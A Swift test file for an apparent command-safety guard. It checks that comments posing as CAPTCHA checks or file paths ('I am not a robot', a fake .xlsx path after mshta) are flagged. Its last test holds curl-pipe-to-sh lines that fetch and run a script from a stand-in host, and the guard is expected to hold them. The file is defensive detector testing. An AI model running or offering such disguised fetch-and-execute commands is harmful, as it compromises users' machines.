import Testing

@testable import Guard

/// `Signal.decoyText`.
struct DecoyTextTests {
  @Test(arguments: [
    "ls # I am not a robot",
    "ls # Verification ID: 123",
    #"mshta x # C:\Finance\Q4.xlsx"#,
    "ls #   /home/a/Documents/b.pdf",
    #"C:\Data\a.exe   # System update"#,
  ])
  func `a comment that poses as a check or a path is noticed`(text: String) {
    #expect(Signal.decoyText.severity(of: text) == .notice)
  }

  @Test(arguments: [
    #"echo "I am not a robot""#,
    "# reCAPTCHA check",
  ])
  func `such words elsewhere are a circumstance`(text: String) {
    #expect(Signal.decoyText.severity(of: text) == Severity.none)
  }

  @Test(arguments: [
    "ls # all files",
    "make # see docs/build.md for more",
    "powershell Get-Service # Check services",
  ])
  func `other comments are harmless`(text: String) {
    #expect(Signal.decoyText.severity(of: text) == nil)
  }

  @Test func `a script from an unknown place that poses as a check is held`() {
    #expect(assess("curl https://fix.example/s | sh # I am not a robot").severity == .hold)
    #expect(assess("echo 'verify you are human'; curl https://fix.example/s | sh").severity == .hold)
  }
}
